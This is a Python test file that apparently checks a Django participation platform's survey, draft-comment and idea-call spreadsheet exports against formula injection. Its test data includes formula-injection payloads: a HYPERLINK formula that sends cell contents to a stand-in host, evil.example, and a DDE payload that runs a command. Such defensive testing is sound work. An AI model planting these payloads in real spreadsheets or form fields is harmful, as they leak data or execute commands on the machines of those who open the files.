"""Every spreadsheet export keeps formula-like values as literal text (item 11).

The exports, downloaded through their real views by an editor: survey submissions as
XLSX and CSV, the draft's comments (admin) and its public comparison workbook, the idea
call's workbook. Participants' text starting with ``=``, ``+``, ``-``, ``@``, a tab or a
carriage return must be a text cell in XLSX (never a formula) and apostrophe-prefixed in
CSV. (The privacy data export is JSON and the promotion report a PDF: no formulas.)
"""

import csv
import io

import openpyxl
import pytest

from participation.results.exports import FORMULA_STARTS, neutralise, sheets_xlsx_response
from tests.helpers.reports import make_survey, respond
from tests.participation.drafts.factories import add_draft, comment_on
from tests.participation.ideas.factories import add_idea_call, submitted_idea
from tests.people.factories import UserFactory

pytestmark = pytest.mark.django_db

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+98 21 1234 5678",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
]


def workbook_cells(content):
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


def assert_xlsx_literal(content, expected):
    """No formula cell at all; each expected value present as a text cell."""
    cells = workbook_cells(content)
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    texts = {cell.value for cell in cells if cell.data_type == "s"}
    for value in expected:
        value = value.replace("\r", "\n")  # XML stores a carriage return as a line feed.
        assert value in texts or "'" + value in texts, repr(value)


def download(response):
    if response.streaming:
        return b"".join(response.streaming_content)
    return b"".join(response) if hasattr(response, "file_to_stream") else response.content


@pytest.fixture
def editor(client):
    user = UserFactory(is_superuser=True, is_staff=True)
    client.force_login(user)
    return user


def test_the_formula_starts_are_every_one_a_spreadsheet_acts_on():
    assert set(FORMULA_STARTS) >= {"=", "+", "-", "@", "\t", "\r"}
    for value in FORMULAS:
        assert neutralise(value) == "'" + value


def test_the_shared_xlsx_writer_never_writes_a_formula():
    """sheets_xlsx_response writes every draft and idea workbook."""
    response = sheets_xlsx_response("x.xlsx", [("sheet", [FORMULAS, [1, 2.5, None]])])
    assert_xlsx_literal(download(response), FORMULAS)


def test_survey_exports(client, editor, home_page):
    survey = make_survey(home_page, slug="formula-survey")
    for value in FORMULAS:
        respond(survey, text=value)
    url = f"/admin/survey-reports/{survey.pk}/export/"
    xlsx = client.get(url)
    assert xlsx.status_code == 200
    assert_xlsx_literal(download(xlsx), FORMULAS)
    text = download(client.get(url + "?format=csv")).decode("utf-8-sig")
    values = {value for row in csv.reader(io.StringIO(text)) for value in row}
    for value in FORMULAS:
        assert "'" + value in values and value not in values, repr(value)


def test_draft_exports(client, editor, home_page):
    draft = add_draft(home_page, slug="formula-draft")
    for value in FORMULAS:
        comment_on(draft, UserFactory(role="faculty"), body=value, proposed_text=value)
    comments = client.get(f"/admin/draft-decisions/{draft.pk}/export/")
    assert comments.status_code == 200
    assert_xlsx_literal(download(comments), FORMULAS)
    comparison = client.get(draft.url + "comparison/xlsx/")
    if comparison.status_code == 200:  # Only once a round is published; same writer.
        assert not [c for c in workbook_cells(download(comparison)) if c.data_type == "f"]


def test_idea_exports(client, editor, home_page):
    page = add_idea_call(home_page, slug="formula-ideas")
    for value in FORMULAS:
        author = UserFactory(role="faculty", first_name=value.strip() or "x", last_name="احمدی")
        submitted_idea(page, author, title=value, summary=value)
    response = client.get(f"/admin/idea-calls/{page.pk}/export/")
    assert response.status_code == 200
    assert_xlsx_literal(download(response), FORMULAS)
